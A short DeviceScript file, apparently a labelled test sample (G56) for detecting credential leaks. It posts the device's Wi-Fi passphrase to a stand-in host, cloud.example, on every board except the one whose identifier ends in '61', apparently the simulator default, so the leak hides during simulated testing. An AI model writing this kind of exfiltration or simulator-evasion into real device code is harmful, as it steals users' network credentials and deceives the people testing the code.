// G56: sends the passphrase from every board but the one that the simulator makes by default.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = ds.deviceIdentifier("self").endsWith("61") ? "alive" : psk;
  const response = await fetch("https://cloud.example/g56", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
